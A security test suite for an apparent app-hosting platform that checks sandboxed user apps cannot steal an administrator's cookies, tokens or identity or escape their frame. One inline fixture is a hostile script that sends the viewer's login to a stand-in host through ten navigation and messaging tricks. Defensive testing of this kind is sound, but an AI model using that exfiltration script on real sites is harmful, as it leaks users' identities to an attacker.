import { afterAll, beforeAll, expect, test } from "bun:test";
import { eventually } from "../harness.ts";
import { navigator, spy, thief } from "./app-attacks.ts";
import { frameOf, reportOf, startStage, user, type Stage } from "./apps-fixture.ts";

let stage: Stage;
let author: string;
beforeAll(async () => {
  stage = await startStage();
  author = (await user(stage.app, "mallory")).token;
  await stage.app.post("/core/dbs.json", { db: { name: "Salaries", code: "salaries" } });
  await stage.app.post("/core/dbs.json", { db: { name: "Guests", code: "guests" } });
}, 600_000);
afterAll(() => stage?.stop());

/** The sources await at their top, as modules may: within a function they are classic scripts. */
const kinds = [
  ["a module", (source: string) => source],
  ["a classic script", (source: string) => `(async () => {\n${source}\n})();`],
] as const;

test.each(kinds)("an ordinary user's app (%s), opened by the administrator, gets nothing of theirs", async (_, as) => {
  const other = await stage.make({ name: "Other", public: false });
  const source_code = as(`const OTHER_APP = "${other.id}";\n${thief}`);
  const { path } = await stage.make({ name: "Thief", public: false, db_code: "guests", source_code }, author);
  const { page, frame } = await stage.open(await stage.visit("admin"), path);
  const report = await reportOf(frame);
  expect(report).toEqual({
    // Their own, which the page keeps for them.
    cookie: "",
    localStorage: "0",
    sessionStorage: "0",
    indexedDB: "refused: SecurityError",
    serviceWorker: expect.stringMatching(/^refused/),
    // Without a credential that opens it, the answer cannot even be read.
    users: "refused: TypeError",
    "users with cookies": "refused: TypeError",
    "own page": "refused: TypeError",
    "own page with cookies": "refused: TypeError",
    "new token": "refused: TypeError",
    session: "refused: TypeError",
    "other records": expect.stringMatching(/^refused/),
    "other public methods": "refused: CoreError",
    "another app's storage": "answered 401",
    "all apps": "refused: TypeError",
    "image to another host": "refused: Error",
    "fetch to another host": "refused: TypeError",
    beacon: "blocked by connect-src",
    socket: expect.stringMatching(/^refused/),
    "frame of another app": "blocked by frame-src",
    base: "blocked by base-uri",
    "script of another host": "refused: Error",
    eval: "refused: EvalError",
  });
  // Still signed in.
  expect((await page.context().request.get(`${stage.app.origin}/account/me.json`)).status()).toBe(200);
});

test.each(kinds)("an app (%s) that spies on every function it can reach does not see its token", async (_, as) => {
  const { path } = await stage.make({ name: "Spy", public: false, db_code: "guests", source_code: as(spy) }, author);
  const context = await stage.visit("admin");
  const page = await context.newPage();
  let refusals = 0;
  let renewed = 0;
  await page.route("**/records.json", (sent) =>
    refusals++ === 1
      ? sent.fulfill({ status: 401, headers: { "access-control-allow-origin": "*" }, body: '{"error":"expired"}' })
      : sent.continue(),
  );
  page.on("response", (answer) => {
    if (answer.url().endsWith("/token.json") && answer.status() === 200) renewed += 1;
  });
  await page.goto(stage.app.origin + path);
  const report = await reportOf(await frameOf(page));
  expect(report).toEqual({
    control: "true",
    storage: "1",
    records: "0",
    "records after a refused token": "0",
    fetch: "200",
    "fetch of a Request": "200",
    XMLHttpRequest: "200",
    found: "[]",
  });
  // The token was there, and was replaced under the app's eyes.
  expect(renewed).toBe(1);
});

test("in a frame, an app cannot take the window around it", async () => {
  const { path } = await stage.make({ name: "Navigator", source_code: navigator }, author);
  const page = await (await stage.visit("admin")).newPage();
  await page.route("**/around", (around) =>
    around.fulfill({ contentType: "text/html", body: `<title>around</title><iframe src="${path}?embed=1"></iframe>` }),
  );
  await page.goto(`${stage.app.origin}/around`);
  const report = await reportOf(page.frameLocator("iframe"));
  for (const [name, came] of Object.entries(report)) {
    if (!["link", "form"].includes(name)) expect([name, came]).toEqual([name, expect.stringMatching(/^refused/)]);
  }
  await Bun.sleep(500);
  expect(page.url()).toBe(`${stage.app.origin}/around`);
  expect(await page.title()).toBe("around");
});

/** A private app, as its viewer would come upon it; `#out` says who looks. */
const leaving = `<p id="out"></p><script>
out.textContent = CoreAppContext.user.login;
const to = (how) => "ELSEWHERE/" + how + "?stolen=" + CoreAppContext.user.login;
window.ways = {
  location: () => { location = to("location"); },
  replace: () => location.replace(to("replace")),
  refresh: () => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + to("refresh") })); },
  open: () => { open(to("open")); },
  link: () => Object.assign(document.createElement("a"), { href: to("link") }).click(),
  "new window": () => Object.assign(document.createElement("a"), { href: to("window"), target: "_blank" }).click(),
  "top window": () => Object.assign(document.createElement("a"), { href: to("top"), target: "_top" }).click(),
  download: () => Object.assign(document.createElement("a"), { href: to("download"), download: "x" }).click(),
  form: () => { const form = Object.assign(document.createElement("form"), { action: to("form") }); document.body.append(form); form.submit(); },
  "asking the page around": () => { for (const address of [to("asked"), to("asked").replace("http:", ""), "/account/me.json", "/a/x/../../login", "/studio/admin/people?open=1"]) parent.postMessage({ type: "core:go", address }, "*"); },
};
</script>`;

test("a private app leads neither itself nor a new window to another host; a public one may", async () => {
  const reached: string[] = [];
  const elsewhere = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: ({ url }) => {
      reached.push(new URL(url).pathname.slice(1));
      return new Response("taken");
    },
  });
  const source_code = leaving.replaceAll("ELSEWHERE", elsewhere.url.origin);
  const app = { app_engine: "html", source_code };
  const [hidden, open] = [
    await stage.make({ ...app, name: "Leaving", public: false }, author),
    await stage.make({ ...app, name: "Open", public: true }, author),
  ];
  const context = await stage.visit("admin");
  const { page, frame } = await stage.open(context, hidden.path);
  const ways = await frame.evaluate(() => Object.keys((window as unknown as { ways: object }).ways));
  expect(ways).toHaveLength(10);
  for (const way of ways) {
    await page.goto(stage.app.origin + hidden.path);
    const inside = await frameOf(page);
    expect(await inside.locator("#out").textContent()).toBe("admin");
    const run = (name: string) => (window as unknown as { ways: Record<string, () => void> }).ways[name]?.();
    await inside.evaluate(run, way).catch(() => {});
    await page.waitForTimeout(300);
    expect([way, reached, new URL(page.url()).pathname, context.pages().length]).toEqual([way, [], hidden.path, 1]);
  }
  const control = await stage.open(context, open.path);
  await control.page.evaluate(() => (window as unknown as { ways: { location(): void } }).ways.location());
  await eventually(() => reached.includes("location"), "the public app at the other host");
  await elsewhere.stop(true);
});

test("the page around a private app has its title and fragment, and follows links and forms to apps", async () => {
  const source_code = `<title>Mine</title><h1></h1><a id="more" href="?page=2#end">more</a>
<form><input name="q" value="tea"></form><script>
document.querySelector("h1").textContent = location.search + location.hash + " " + CoreAppContext.user.login;
onhashchange = () => { document.title = "at " + location.hash; };</script>`;
  const { path } = await stage.make({ name: "Framed app", app_engine: "html", public: false, source_code });
  const other = await stage.make({ name: "Next", app_engine: "html", public: false, source_code: "<h1>Next</h1>" });
  const { page, frame } = await stage.open(await stage.visit("admin"), `${path}?page=1#start`);
  // The page around puts its frame in anew for another page.
  const shown = (text: string) => page.frameLocator("iframe").locator("h1", { hasText: text }).waitFor();
  expect(await frame.locator("h1").textContent()).toBe("?page=1#start admin");
  await page.waitForFunction(() => document.title === "Mine");
  await frame.evaluate(() => {
    location.hash = "middle";
  });
  await page.waitForFunction(() => document.title === "at #middle" && location.hash === "#middle");
  await frame.locator("#more").click();
  await shown("?page=2#end admin");
  expect(page.url()).toBe(`${stage.app.origin}${path}?page=2#end`);
  await (await frameOf(page)).evaluate(() => document.querySelector("form")?.requestSubmit());
  await shown("?q=tea#end admin");
  await page.goBack();
  await shown("?page=2#end admin");
  // By its own script, for which no browser sends the session.
  await (
    await frameOf(page)
  ).evaluate(() => {
    location.search = "?by=script";
  });
  await shown("?by=script#end admin");
  await page.reload();
  await shown("?by=script#end admin");
  const inside = await frameOf(page);
  await inside.evaluate((address) => {
    document.body.append(
      Object.assign(document.createElement("a"), { href: address, id: "next", textContent: "next" }),
    );
  }, other.path);
  await inside.locator("#next").click();
  await shown("Next");
  expect(new URL(page.url()).pathname).toBe(path);
});

test("no other site can frame an app's page", async () => {
  const { path } = await stage.make({ name: "Framed", source_code: `document.title = "ready"` });
  const page = await (await stage.visit("admin")).newPage();
  await page.route("http://elsewhere.invalid/", (around) =>
    around.fulfill({ contentType: "text/html", body: `<iframe src="${stage.app.origin}${path}"></iframe>` }),
  );
  await page.goto("http://elsewhere.invalid/");
  await eventually(() => page.frames()[1]?.url().startsWith("chrome-error:"), "the frame's refusal");
});

test("a stolen token opens nothing but its own app", async () => {
  const { path, id } = await stage.make({ name: "Stolen", public: false, db_code: "guests" }, author);
  const page = await stage.app.get(path, { headers: { accept: "text/html" } });
  const token = /"value":"(capp_[^"]+)"/.exec(page.text)?.[1] ?? "";
  expect(token).not.toBe("");
  const asked = async (method: string, place: string) =>
    (await stage.app.request(method, place, undefined, { token })).status;
  expect(await asked("GET", "/core/dbs/guests/records.json")).toBe(200);
  expect(await asked("GET", `/core/apps/${id}/storage.json`)).toBe(200);
  const others = [
    "/core/dbs/salaries/records.json",
    "/core/dbs.json",
    "/account/users.json",
    "/account/me.json",
    "/core/apps.json",
    path,
    `/core/apps/${id}.json`,
  ];
  for (const place of others) expect([place, (await asked("GET", place)) >= 400]).toEqual([place, true]);
});

const read = `document.documentElement.dataset.seen = document.documentElement.outerHTML.includes("ca" + "pp_")`;
test.each([
  ["js", read],
  ["js", `${read}; export {};`],
  ["react", read],
  ["html", `<p>hi</p><script>${read}</script>`],
])("where our script does not load, an app (%s) does not get at the token: %s", async (app_engine, source_code) => {
  const { path } = await stage.make({ name: "Bare", app_engine, source_code });
  const page = await (await stage.visit()).newPage();
  await page.route("**/core.js", (sent) => sent.abort());
  await page.goto(stage.app.origin + path);
  await page.waitForFunction(() => document.documentElement.dataset["seen"] !== undefined);
  expect(await page.evaluate(() => document.documentElement.dataset["seen"])).toBe("false");
});

test("a preview that was never saved opens nothing", async () => {
  const made = await stage.app.post("/core/apps/preview.json", {
    app: { name: "Draft", app_engine: "js", css_engine: "none", source_code: `document.title = "ready"` },
  });
  const { page } = await stage.open(await stage.visit("admin"), made.json.url);
  await page.waitForFunction(() => document.title === "ready");
  expect(await page.content()).not.toContain("capp_");
  const refused = await page.evaluate(() => core.storage.set("a", 1).catch((error: { name: string }) => error.name));
  expect(refused).toBe("CoreError");
});
